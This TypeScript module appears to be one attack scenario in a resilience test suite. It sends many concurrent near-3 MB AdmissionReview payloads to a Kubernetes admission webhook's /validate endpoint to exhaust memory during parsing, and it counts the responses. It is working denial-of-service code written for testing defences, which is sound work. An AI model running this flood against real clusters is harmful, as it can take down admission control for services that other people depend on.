import { Agent, request } from 'node:https';
import type { Attack, AttackTarget } from '../attack.js';
import { attackTime } from '../attack-time.js';

const SENDERS = 60;
const BODY_BYTES = 3 * 1024 * 1024 - 1024;

/** Clients in the cluster send the largest accepted reviews. Each takes much more memory when parsed. */
export const attack: Attack = {
  title: `${SENDERS} senders of reviews of 3 MB`,
  async run(target, scale, signal) {
    const until = attackTime(signal, this.durationMs);
    const body = largeReview();
    const outcomes = new Map<string, number>();
    const count = (outcome: string): void => void outcomes.set(outcome, (outcomes.get(outcome) ?? 0) + 1);
    const senders = Array.from({ length: SENDERS * scale }, async (_, index) => {
      // A tenant has as many addresses as pods.
      const agent = new Agent({ keepAlive: true, localAddress: `127.0.1.${1 + (index % 6)}`, ca: target.root });
      while (!until.aborted) count(await send(target, agent, body, until));
      agent.destroy();
    });
    await Promise.all(senders);
    return `${SENDERS * scale} senders: ${[...outcomes].map(([outcome, times]) => `${times} times ${outcome}`).join(', ')}`;
  },
};

/** A review whose object consists of as many values as fit. */
function largeReview(): Buffer {
  const item = '{"quotas":[{"quota":"requests","charge":1}],"match":[{"clause":{"request.path":{"prefix":"/a"}}}]}';
  const head =
    '{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"u-1","operation":"CREATE",' +
    '"kind":{"group":"config.mesh.internal","version":"v1alpha2","kind":"QuotaSpec"},' +
    '"resource":{"group":"config.mesh.internal","version":"v1alpha2","resource":"quotaspecs"},' +
    '"name":"limits","namespace":"attackers","object":{"apiVersion":"config.mesh.internal/v1alpha2",' +
    '"kind":"QuotaSpec","metadata":{"name":"limits","namespace":"attackers"},"spec":{"rules":[';
  const count = Math.floor((BODY_BYTES - head.length - 10) / (item.length + 1));
  return Buffer.from(`${head}${Array.from({ length: count }, () => item).join(',')}]}}}}`);
}

function send(
  { host, ports, serverName }: AttackTarget,
  agent: Agent,
  body: Buffer,
  signal: AbortSignal,
): Promise<string> {
  return new Promise((resolve) => {
    const headers = { 'content-type': 'application/json', 'content-length': body.length };
    const call = request(
      { host, port: ports.https, path: '/validate', method: 'POST', headers, agent, servername: serverName, signal },
      (response) => {
        response.resume().on('error', () => undefined);
        response.on('close', () => resolve(`answered ${response.statusCode}`));
      },
    );
    call.on('error', () => resolve('cut off'));
    call.end(body);
  });
}
